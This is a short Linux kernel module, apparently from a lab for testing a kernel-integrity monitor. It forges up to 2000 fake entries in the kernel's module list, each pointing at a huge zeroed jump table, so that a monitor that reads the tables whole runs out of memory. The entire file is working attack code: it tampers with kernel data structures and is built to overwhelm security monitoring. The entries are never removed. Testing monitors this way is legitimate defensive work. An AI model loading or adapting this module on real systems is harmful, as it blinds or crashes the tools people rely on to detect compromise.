// SPDX-License-Identifier: GPL-2.0
/* Lab attack on the monitor's memory: the module list forged with `copies`
 * entries that all alias this module's text, each naming a jump table of
 * `entries` entries (as many as a monitor's parser might take), so that a
 * monitor reading whole what the list names would hold gigabytes. The real
 * module's own entry is left as it is; the forged ones are never unloaded
 * (there is no exit), and the table is zeroes: it patches nothing. */
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>
#include <linux/rculist.h>
#include <linux/jump_label.h>

static int copies = 2000;
module_param(copies, int, 0444);
static unsigned int entries = 1 << 18;
module_param(entries, uint, 0444);

static int __init forge_init(void)
{
	struct jump_entry *table;
	int i;

	table = vzalloc(array_size(entries, sizeof(*table)));
	if (!table)
		return -ENOMEM;
	for (i = 0; i < copies; i++) {
		struct module *m = kmemdup(THIS_MODULE, sizeof(*m), GFP_KERNEL);

		if (!m)
			break;
		snprintf(m->name, sizeof(m->name), "vigil_forge_%d", i);
		m->state = MODULE_STATE_LIVE;
		m->jump_entries = table;
		m->num_jump_entries = entries;
		list_add_rcu(&m->list, &THIS_MODULE->list);
	}
	pr_info("vigil-lab: %d forged module entries of %u jump entries each\n", i, entries);
	return 0;
}
module_init(forge_init);
MODULE_LICENSE("GPL");
